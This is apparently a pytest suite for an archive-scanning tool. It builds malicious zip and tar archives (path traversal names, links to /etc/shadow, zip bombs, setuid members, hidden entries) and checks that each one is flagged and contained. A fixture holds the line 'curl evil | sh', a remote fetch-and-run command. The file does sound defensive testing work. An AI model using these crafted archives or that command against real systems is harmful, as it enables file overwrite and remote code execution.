"""Archives that try to harm: each trick is a finding, nothing leaves the stage, and the rest is scanned."""
# ruff: noqa: E501  a table is read one case a line

import gzip
import io
import os
import random
import tarfile
import zipfile
from pathlib import Path

import pytest

from periphery.mcnamara.archives import NotAnArchive, Opened, unpack
from periphery.mcnamara.findings import LEVELS
from periphery.mcnamara.inventory import File
from periphery.mcnamara.stage import Stage
from tests.unit.mcnamara.crafted import entry, special, tarred, zip_of, zipped

HONEST = {"pkg/__init__.py": b"print(1)\n", "README": b"hello\n"}


def opened(tmp_path: Path, content: bytes, name: str = "x.zip", max_files: int = 50_000) -> tuple[Opened, Stage]:
    place = tmp_path / "source"
    place.write_bytes(content)
    stage = Stage(tmp_path / "stage", max_files=max_files)
    return unpack(place, stage, name=name), stage


def rules(result: Opened) -> set[str]:
    return {hit.rule.removeprefix("archive-") for hit in result.hits}


def everything_below(tmp_path: Path) -> set[str]:
    return {str(each.relative_to(tmp_path)) for each in tmp_path.rglob("*") if not each.is_dir()}


@pytest.mark.parametrize("mode", ["w", "w:gz", "w:bz2", "w:xz"])
def test_an_honest_tar_gives_its_files_and_no_finding(tmp_path: Path, mode: str) -> None:
    result, stage = opened(tmp_path, tarred(*HONEST.items(), mode=mode), "x.tar")
    assert result.hits == []
    assert {each.path: each.place.read_bytes() for each in stage.files} == HONEST


def test_an_honest_zip_gives_its_files_and_no_finding(tmp_path: Path) -> None:
    result, stage = opened(tmp_path, zipped(HONEST))
    assert result.hits == []
    assert {each.path: each.place.read_bytes() for each in stage.files} == HONEST


ESCAPES = {
    "escape": "../../etc/cron.d/x",
    "absolute": "/etc/passwd",
    "backslash": "a\\b.py",
    "control-name": "a\x1b[31mb\nc.py",
    "bidi-name": "exe\u202ecod.py",
    "long-name": "x" * 300,
}


@pytest.mark.parametrize("rule", ESCAPES)
@pytest.mark.parametrize("make", [lambda name: zip_of(entry(name.encode(), b"bad = 1\n", flags=0x800), entry(b"good.py", b"ok\n")),
                                  lambda name: tarred((name, b"bad = 1\n"), ("good.py", b"ok\n"))])  # fmt: skip
def test_a_name_that_escapes_or_misleads_is_a_finding_and_everything_is_scanned(tmp_path, rule, make) -> None:  # type: ignore[no-untyped-def]
    name = ESCAPES[rule]
    result, stage = opened(tmp_path, make(name))
    assert rule in rules(result)
    assert all(LEVELS.index(hit.severity) >= LEVELS.index("high") for hit in result.hits)
    assert all(hit.path.isprintable() for hit in result.hits)
    assert sorted(each.place.read_bytes() for each in stage.files) == [b"bad = 1\n", b"ok\n"]
    assert all(stage.root in each.place.parents for each in stage.files)
    assert everything_below(tmp_path) == {"source", *(str(each.place.relative_to(tmp_path)) for each in stage.files)}


def test_a_nul_in_a_name_is_told_though_tools_cut_the_name_there(tmp_path: Path) -> None:
    result, _ = opened(tmp_path, zip_of(entry(b"a.py\0.txt", b"x")))
    assert "nul-name" in rules(result)
    block = bytearray(tarred(("a.py", b"x")))
    block[0:9] = b"a.py\0.txt"
    head = bytearray(block[:512])
    head[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(head)
    (tmp_path / "2").mkdir()
    result, _ = opened(tmp_path / "2", bytes(block), "x.tar")
    assert "nul-name" in rules(result)


@pytest.mark.parametrize(
    ("member", "rule"),
    [
        (special("out", tarfile.SYMTYPE, "/etc"), "link"),
        (special("d/out", tarfile.SYMTYPE, "../../x"), "link"),
        (special("out", tarfile.LNKTYPE, "../../etc/shadow"), "link"),
        (special("disk", tarfile.BLKTYPE), "device"),
        (special("tty", tarfile.CHRTYPE), "device"),
        (special("pipe", tarfile.FIFOTYPE), "device"),
        (special("odd", b"Z"), "unknown-kind"),
    ],
)
def test_links_that_leave_and_devices_are_findings_and_never_exist(
    tmp_path: Path, member: tarfile.TarInfo, rule: str
) -> None:
    result, stage = opened(tmp_path, tarred(member, ("good.py", b"ok\n")), "x.tar")
    assert rules(result) == {rule}
    assert [each.path for each in stage.files] == ["good.py"]


def test_a_link_within_is_listed_and_what_lies_below_a_link_is_a_finding(tmp_path: Path) -> None:
    result, stage = opened(tmp_path, tarred(special("d", tarfile.SYMTYPE, "real"), ("d/x.py", b"ok\n")), "x.tar")
    assert rules(result) == {"through-link"}
    assert result.skipped[0][0] == "d"
    assert [each.place.read_bytes() for each in stage.files] == [b"ok\n"]
    assert not any(each.is_symlink() for each in stage.root.rglob("*"))


def test_a_zip_link_that_leaves_is_a_finding(tmp_path: Path) -> None:
    result, _ = opened(tmp_path, zip_of(entry(b"l", b"../../etc/passwd", mode=0o120777)))
    assert rules(result) == {"link"}


def test_two_of_one_name_and_names_that_differ_in_case_are_findings_and_both_are_kept(tmp_path: Path) -> None:
    members = (entry(b"a.py", b"1"), entry(b"a.py", b"2"), entry(b"A.py", b"3"))
    result, stage = opened(tmp_path, zip_of(*members))
    assert rules(result) == {"duplicate", "case-clash"}
    assert sorted(each.place.read_bytes() for each in stage.files) == [b"1", b"2", b"3"]


@pytest.mark.parametrize(
    ("content", "rule"),
    [
        (zip_of(entry(b"evil.py", b"x", listed_as=b"good.py")), "header-mismatch"),
        (zip_of(entry(b"a", b"x" * 9, listed_size=3)), "bomb"),
        (zip_of(entry(b"a", b"x" * 9, listed_size=30)), "damaged"),
        (zip_of(entry(b"a", b"x"), unlisted=(entry(b"hidden.py", b"import os")[0],)), "hidden-member"),
        (zip_of(entry(b"a", b"x" * 99), entry(b"b", b"x" * 99), offsets=[0, 0]), "overlap"),
        (zip_of(entry(b"a", b"x", flags=1)), "encrypted"),
        (b"#!/bin/sh\nexit\n" + zip_of(entry(b"a", b"x")), "prefix"),
        (zip_of(entry(b"a", b"x", mode=0o104755)), "setuid"),
        (zip_of(entry(b"a", b"x", mode=0o020666)), "device"),
    ],
)
def test_a_zip_that_two_programs_would_read_differently_is_a_finding(tmp_path: Path, content: bytes, rule: str) -> None:
    result, _ = opened(tmp_path, content)
    assert rule in rules(result)


def test_what_lies_before_a_zip_is_a_finding_and_scanned_also_where_its_offsets_count_it(tmp_path: Path) -> None:
    out = io.BytesIO(b"#!/bin/sh\ncurl evil | sh\n")
    out.seek(0, 2)
    with zipfile.ZipFile(out, "a") as archive:  # as zipapp does
        archive.writestr("a.py", "x\n")
    result, stage = opened(tmp_path, out.getvalue(), "x.pyz")
    assert rules(result) == {"prefix"}
    assert {each.path: each.place.read_bytes() for each in stage.files} == {
        "(before the archive)": b"#!/bin/sh\ncurl evil | sh\n",
        "a.py": b"x\n",
    }


def test_a_tar_member_that_lends_its_owners_rights_is_a_finding_and_a_shared_directory_is_none(tmp_path: Path) -> None:
    folder, program = tarfile.TarInfo("d"), tarfile.TarInfo("d/su")
    folder.type, folder.mode, program.mode = tarfile.DIRTYPE, 0o2775, 0o4755
    result, _ = opened(tmp_path, tarred(folder, program), "x.tar")
    assert [(hit.rule, hit.severity, hit.path) for hit in result.hits] == [("archive-setuid", "high", "d/su")]


def test_a_bomb_is_a_finding_and_its_neighbours_are_scanned(tmp_path: Path) -> None:
    content = zip_of(entry(b"zeros", bytes(20 * 2**20)), entry(b"good.py", b"ok\n"))
    result, stage = opened(tmp_path, content)
    assert rules(result) == {"bomb"}
    assert [each.path for each in stage.files] == ["good.py"]
    assert stage.total == 3


def test_a_compressed_stream_that_explodes_ends_in_time(tmp_path: Path) -> None:
    result, stage = opened(tmp_path, gzip.compress(bytes(20 * 2**20)), "x.gz")
    assert rules(result) == {"bomb"}
    assert stage.total == 0


def test_a_tar_header_of_unreasonable_size_is_not_taken_into_memory(tmp_path: Path) -> None:
    info = tarfile.TarInfo("x")
    info.type, info.size = tarfile.GNUTYPE_LONGNAME, 10**9
    result, _ = opened(
        tmp_path, tarred(("good.py", b"ok"))[:1024] + info.tobuf(tarfile.GNU_FORMAT) + bytes(1024), "x.tar"
    )
    assert "header-bomb" in rules(result)


def test_data_behind_the_end_of_a_tar_is_a_finding(tmp_path: Path) -> None:
    result, _ = opened(tmp_path, tarred(("a", b"x")) + tarred(("evil.py", b"y")), "x.tar")
    assert rules(result) == {"after-end"}


def test_caps_end_the_archive_but_not_the_scan(tmp_path: Path) -> None:
    result, stage = opened(tmp_path, zipped({f"f{number}": b"x" for number in range(20)}), max_files=5)
    assert rules(result) == {"bomb"}
    assert len(stage.files) == 5
    assert result.unread == [("(the archive)", "more than 5 files, with 15 more members")]


def test_archives_within_archives_are_opened_down_to_a_depth(tmp_path: Path) -> None:
    content = zipped({"core.py": b"ok\n"})
    for _ in range(5):
        content = zipped({"inner.zip": content})
    result, stage = opened(tmp_path, content)
    assert rules(result) == {"nested"}
    assert [each.path for each in stage.files] == ["inner.zip!/inner.zip!/inner.zip!/inner.zip"]
    (tmp_path / "2").mkdir()
    result, stage = opened(tmp_path / "2", zipped({"a.whl": zipped({"x.py": b"1"}), "b.txt": zipped({"y.py": b"2"})}))
    assert sorted(each.path for each in stage.files) == ["a.whl!/x.py", "b.txt!/y.py"]


def test_a_file_is_taken_out_of_the_stage_without_a_look_at_the_others(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    stage = Stage(tmp_path / "stage")
    one, two, three = (stage.add(name, [b"x"]) for name in ("one", "two", "three"))

    def compared(self: File, other: object) -> bool:
        raise AssertionError("a tree may hold as many archives as files")

    with monkeypatch.context() as patch:
        patch.setattr(File, "__eq__", compared)
        stage.drop(two)
    assert [*stage.files] == [one, three]
    assert (stage.newest(1), stage.newest(2), stage.total) == ([three], [one, three], 2)


@pytest.mark.parametrize("content", [b"", b"hello\n" * 200, b"PK\x03\x04 but nothing more", b"\x1f\x8bgarbage"])
def test_what_is_no_archive_is_refused(tmp_path: Path, content: bytes) -> None:
    with pytest.raises(NotAnArchive):
        opened(tmp_path, content)


def test_a_file_and_a_directory_of_one_name_are_both_kept(tmp_path: Path) -> None:
    result, stage = opened(tmp_path, tarred(("a", b"1"), ("a/b", b"2"), ("a/b/c", b"3")), "x.tar")
    assert sorted(each.place.read_bytes() for each in stage.files) == [b"1", b"2", b"3"]
    assert result.unread == []


def test_damaged_archives_of_every_kind_end_in_findings_or_a_refusal_and_nothing_leaves_the_stage(
    tmp_path: Path,
) -> None:
    chance = random.Random(11)
    members = {f"d{number}/f{number}.py": os.urandom(50) * 8 for number in range(8)}
    sources = [
        zipped(members),
        tarred(*members.items()),
        tarred(*members.items(), mode="w:gz"),
        tarred(*members.items(), mode="w:xz"),
    ]
    sources.append(zipped({"inner.zip": sources[0], "inner.tar": sources[1]}))
    for number in range(100):
        content = bytearray(chance.choice(sources))
        for _ in range(chance.randrange(1, 6)):
            at = chance.randrange(len(content))
            if chance.random() < 0.3:
                del content[at : at + chance.randrange(1, 80)]
            else:
                content[at] = chance.randrange(256)
            if not content:
                break
        folder = tmp_path / str(number)
        folder.mkdir()
        try:
            result, stage = opened(folder, bytes(content))
        except NotAnArchive:
            continue
        assert all(stage.root in each.place.parents and each.place.is_file() for each in stage.files)
        assert everything_below(folder) == {"source", *(str(each.place.relative_to(folder)) for each in stage.files)}
        assert all(hit.path.isprintable() for hit in result.hits)


def test_a_long_member_is_taken_in_piece_by_piece(tmp_path: Path) -> None:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb") as file:
        file.write(tarred(("big", os.urandom(2**20) * 12)))
    result, stage = opened(tmp_path, out.getvalue(), "x.tgz")
    assert (result.hits, stage.total) == ([], 12 * 2**20)
